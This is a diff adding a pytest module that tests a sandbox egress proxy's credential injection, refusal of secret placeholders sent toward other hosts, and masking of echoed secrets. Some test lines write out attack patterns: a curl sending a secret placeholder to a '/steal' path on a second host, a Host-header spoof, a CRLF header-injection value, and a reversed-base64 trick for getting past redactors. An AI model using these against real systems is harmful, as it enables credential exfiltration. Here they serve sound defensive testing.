@@ -1,0 +1,196 @@
+"""Credential injection (docs/secrets.md): brigd's egress proxy adds a project's
+rule headers, with secret values the sandbox never holds, to requests toward the
+rule's host, and refuses a secret's placeholder toward any other host.
+
+The "internet" is test_network.py's (brigtest-inet, its DNS zone .test); this
+module adds a server there that records the headers it receives, on api.test
+(198.51.100.30) and second.test (198.51.100.40), port 80.  Its path /echo sends
+the request's Authorization header back in the body.
+"""
+
+import base64
+import json
+import os
+import pathlib
+import subprocess
+import sys
+
+import pytest
+
+sys.path.insert(0, os.path.dirname(__file__))
+import brigtest  # noqa: E402
+from test_network import (API_ADDR, INET, SECOND_ADDR, NsApi, inet, napi,  # noqa: E402,F401
+                          netd, sbexec)
+
+VALUE = "sk_live_7Hq2vN9xR4tLm8Pw3Zy6Kb1D"  # the real secret
+RULE = {"host": "api.test", "headers": {"Authorization": "Bearer {{secret:API_KEY}}"}}
+
+RECORDER = r'''
+import http.server, json, socketserver, sys, threading
+LOG = sys.argv[1]
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(LOG, "a") as f:
+            f.write(json.dumps({"server": self.server.server_address[0], "path": self.path,
+                                "headers": dict(self.headers.items())}) + "\n")
+        body = ("auth=%s\n" % self.headers.get("Authorization", "")).encode() \
+            if self.path.startswith("/echo") else b"ok\n"
+        self.send_response(200); self.send_header("Content-Length", str(len(body)))
+        self.end_headers(); self.wfile.write(body)
+    def log_message(self, *a): pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+    def server_bind(self):
+        socketserver.TCPServer.server_bind(self)
+        self.server_name, self.server_port = self.server_address[:2]
+for a in sys.argv[2:]:
+    s = S((a, 80), H); threading.Thread(target=s.serve_forever, daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+'''
+
+
+@pytest.fixture(scope="module")
+def recorder(inet):
+    tmp = pathlib.Path(inet["tmp"])
+    (tmp / "recorder.py").write_text(RECORDER)
+    log = tmp / "recorded.jsonl"
+    log.write_text("")
+    p = subprocess.Popen(["ip", "netns", "exec", INET, "/usr/bin/python3", str(tmp / "recorder.py"),
+                          str(log), API_ADDR, SECOND_ADDR], stdout=subprocess.PIPE, text=True)
+    assert p.stdout.readline().strip() == "ready"
+    yield log
+    p.kill()
+    p.wait()
+
+
+def recorded(log):
+    return [json.loads(line) for line in log.read_text().splitlines() if line.strip()]
+
+
+def hidden(value):
+    """A Python expression for value that no redactor recognises (reversed base64)."""
+    return f"__import__('base64').b64decode('{base64.b64encode(value.encode()).decode()[::-1]}'[::-1]).decode()"
+
+
+def project_with_rule(napi, rules=(RULE,)):
+    p = napi.ok("POST", "/v1/projects", {"name": "inject"}).json()["id"]
+    napi.ok("PUT", f"/v1/projects/{p}/secrets/API_KEY", {"value": VALUE}, expect=(204,))
+    r = napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": list(rules)}).json()
+    assert r["rules"] == list(rules)
+    return p
+
+
+def test_rules_are_for_admin_keys_only(napi):
+    p = project_with_rule(napi)
+    assert napi.ok("GET", f"/v1/projects/{p}/injections").json()["rules"] == [RULE]
+    k = napi.ok("POST", f"/v1/projects/{p}/keys", {"scope": "sandbox"}).json()["key"]
+    sbk = NsApi(napi.base_url, k)
+    assert sbk.request("GET", f"/v1/projects/{p}/injections").status == 403
+    assert sbk.request("PUT", f"/v1/projects/{p}/injections", {"rules": []}).status == 403
+    for bad in ([{"host": "API.test", "headers": {"A": "b"}}],
+                [{"host": "api.test", "headers": {"Host": "x"}}],
+                [{"host": "api.test", "headers": {"A": "{{secret:bad name}}"}}],
+                [{"host": "api.test", "headers": {"A": "x\r\nB: y"}}],
+                [{"host": "api.test", "headers": {}}], {"host": "api.test"}):
+        r = napi.request("PUT", f"/v1/projects/{p}/injections", {"rules": bad})
+        assert r.status == 400, (bad, r.body)
+        assert "error" in r.json()
+    assert napi.ok("GET", f"/v1/projects/{p}/injections").json()["rules"] == [RULE]
+
+
+@pytest.mark.base
+def test_http_injection_from_curl_python_and_node(napi, recorder):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    rc, ph = sbexec(napi, sb, "printenv API_KEY")
+    assert rc == 0 and ph.startswith("brig-placeholder-"), ph
+    ph = ph.strip()
+    clients = {
+        "curl": 'curl -sS -m 5 -H "Authorization: Bearer $API_KEY" http://api.test/curl',
+        "python": "python3 -c \"import os, urllib.request as u; print(u.urlopen(u.Request("
+                  "'http://api.test/python', headers={'Authorization': 'Bearer ' + "
+                  "os.environ['API_KEY']}), timeout=5).read().decode())\"",
+        "node": "node -e \"fetch('http://api.test/node', {headers: {Authorization: 'Bearer ' + "
+                "process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t))\"",
+    }
+    for name, cmd in clients.items():
+        rc, out = sbexec(napi, sb, cmd)
+        assert rc == 0 and out.strip() == "ok", (name, out)
+        got = [r for r in recorded(recorder) if r["path"] == f"/{name}"]
+        assert got and got[-1]["headers"]["Authorization"] == f"Bearer {VALUE}", (name, got)
+    # the sandbox never held the value: no process's environment, no file it has
+    scan = (f"import glob, os; v = {hidden(VALUE)}.encode(); n = 0\n"
+            "for f in glob.glob('/proc/[0-9]*/environ'):\n"
+            "    try: n += v in open(f, 'rb').read()\n"
+            "    except OSError: pass\n"
+            "for top in ('/tmp', '/root', '/home', '/etc', '/var', '/usr/local', '/opt'):\n"
+            "    for d, _, fs in os.walk(top):\n"
+            "        for f in fs:\n"
+            "            try: n += v in open(os.path.join(d, f), 'rb').read()\n"
+            "            except OSError: pass\n"
+            "print(n)")
+    r = napi.exec(sb, argv=["python3", "-c", scan], timeout=60)
+    assert (r["exit_code"], r["stdout"].strip()) == (0, "0"), r
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    used = [e for e in log if e["kind"] == "proxy" and e["verdict"] == "injected"]
+    assert {e["path"] for e in used} >= {"/curl", "/python", "/node"}, log
+    assert all(e["host"] == "api.test" and e["secrets"] == ["API_KEY"] for e in used)
+    assert VALUE not in json.dumps(log)
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_placeholder_toward_another_host_is_refused_and_logged(napi, recorder):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    before = len(recorded(recorder))
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -w "%{http_code}" -H "X-Key: $API_KEY" '
+                               'http://second.test/steal')
+    assert out.endswith("403") and "placeholder of API_KEY" in out, out
+    # the address of another host with api.test's name: no injection either
+    rc, out = sbexec(napi, sb, f'curl -sS -m 5 -w "%{{http_code}}" -H "Host: api.test" '
+                               f'http://{SECOND_ADDR}/spoof')
+    assert out.endswith("403") and "does not resolve" in out, out
+    assert not [r for r in recorded(recorder)[before:] if r["path"] in ("/steal", "/spoof")]
+    # without a placeholder, a host without a rule is reached untouched
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: Bearer mine" http://second.test/plain')
+    assert out.strip() == "ok", out
+    plain = [r for r in recorded(recorder) if r["path"] == "/plain"][-1]
+    assert plain["headers"]["Authorization"] == "Bearer mine"
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    refused = [e for e in log if e["kind"] == "proxy" and e["verdict"] == "refused"]
+    assert any(e["host"] == "second.test" and e["path"] == "/steal" for e in refused), log
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_an_echoed_secret_is_masked_before_the_sandbox_sees_it(napi, recorder):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    # into a file, not stdout: the exec output's own redactor must not be what hides it
+    rc, out = sbexec(napi, sb, "curl -sS -m 5 -o /tmp/echo http://api.test/echo && "
+                               f"python3 -c \"d = open('/tmp/echo').read(); "
+                               f"print(len(d), {hidden(VALUE)} in d, '[REDACTED:API_KEY]' in d)\"")
+    assert rc == 0 and out.split() == [str(len(f"auth=Bearer {VALUE}\n")), "False", "True"], out
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_rules_apply_to_running_sandboxes_and_stop_when_removed(napi, recorder):
+    p = project_with_rule(napi, rules=())
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    rc, out = sbexec(napi, sb, "printenv API_KEY")
+    assert out.strip() == VALUE.replace(VALUE, "[REDACTED:API_KEY]"), out  # plain env: no rule
+    napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": [RULE]})
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: x" http://api.test/late')
+    assert out.strip() == "ok", out
+    assert [r for r in recorded(recorder) if r["path"] == "/late"][-1]["headers"][
+        "Authorization"] == f"Bearer {VALUE}"
+    napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": []})
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: x" http://api.test/off')
+    assert out.strip() == "ok", out
+    assert [r for r in recorded(recorder) if r["path"] == "/off"][-1]["headers"][
+        "Authorization"] == "x"
+    napi.delete(sb)
